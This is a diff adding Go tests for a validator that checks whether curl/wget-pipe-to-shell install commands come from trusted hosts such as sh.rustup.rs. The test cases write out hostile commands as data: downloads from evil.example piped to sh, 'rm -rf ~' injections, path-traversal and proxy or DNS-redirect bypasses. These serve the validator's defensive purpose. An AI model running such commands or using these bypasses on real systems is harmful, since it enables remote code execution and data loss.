@@ -0,0 +1,58 @@
+package patterns
+
+import "testing"
+
+func TestMatchTrustedPipeInstall(t *testing.T) {
+	trusted := []string{"sh.rustup.rs", "raw.githubusercontent.com/nvm-sh/nvm/"}
+	cases := map[string]string{
+		"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh":                       "sh.rustup.rs",
+		"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash":      "raw.githubusercontent.com/nvm-sh/nvm/",
+		"curl https://sh.rustup.rs | sh -c 'rm -rf ~'":                                         "", // interpreter arguments
+		"curl https://sh.rustup.rs | sh -s -- -y":                                              "",
+		"curl https://sh.rustup.rs | sudo sh":                                                  "",
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm/../../evil/x/install.sh | bash":     "", // raw ..
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm/%2e%2e/%2e%2e/evil/x.sh | bash":     "", // encoded ..
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm-evil/install.sh | bash":             "",
+		"curl https://sh.rustup.rs | sh; rm -rf ~":                                             "",
+		`/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/x.sh)"`:       "",
+		"curl https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/../v0.40.0/install.sh | sh": "raw.githubusercontent.com/nvm-sh/nvm/",
+		"wget -qO- https://sh.rustup.rs | sh":                                                  "sh.rustup.rs",
+		"curl -A installer -o - https://sh.rustup.rs | sh":                                     "sh.rustup.rs",
+
+		// Exactly one argument, and it is the trusted https URL
+		"curl https://sh.rustup.rs evil.example/x.sh | sh":                  "", // scheme-less defaults to http
+		"curl https://sh.rustup.rs ftp://evil.example/x.sh | sh":            "",
+		"curl https://sh.rustup.rs file:///tmp/x.sh | sh":                   "",
+		"curl https://sh.rustup.rs https://sh.rustup.rs/x | sh":             "",
+		"curl sh.rustup.rs | sh":                                            "",
+		"curl --proto '=https' -sSf evil.example/x.sh | sh":                 "",
+		"curl -K /tmp/curlrc https://sh.rustup.rs | sh":                     "", // options from a file
+		"curl --config=/tmp/curlrc https://sh.rustup.rs | sh":               "",
+		"curl -sSfk https://sh.rustup.rs | sh":                              "", // insecure in a flag cluster
+		"curl --insecure https://sh.rustup.rs | sh":                         "",
+		"curl --resolve sh.rustup.rs:443:6.6.6.6 https://sh.rustup.rs | sh": "",
+		"curl --connect-to ::evil.example: https://sh.rustup.rs | sh":       "",
+		"curl -x http://evil.example:8080 https://sh.rustup.rs | sh":        "",
+		"curl --proxy http://evil.example https://sh.rustup.rs | sh":        "",
+		"wget --no-check-certificate -qO- https://sh.rustup.rs | sh":        "",
+		"wget -i /tmp/urls -qO- https://sh.rustup.rs | sh":                  "",
+	}
+	for cmd, want := range cases {
+		if got := MatchTrustedPipeInstall(cmd, trusted); got != want {
+			t.Errorf("MatchTrustedPipeInstall(%q) = %q, want %q", cmd, got, want)
+		}
+	}
+}
+
+func TestSplitCommand(t *testing.T) {
+	got := SplitCommand(`echo "a | b; c" && grep 'x|y' f | wc -l; ls \| x`)
+	want := []string{`echo "a | b; c"`, `grep 'x|y' f`, `wc -l`, `ls \| x`}
+	if len(got) != len(want) {
+		t.Fatalf("SplitCommand = %q, want %q", got, want)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("segment %d = %q, want %q", i, got[i], want[i])
+		}
+	}
+}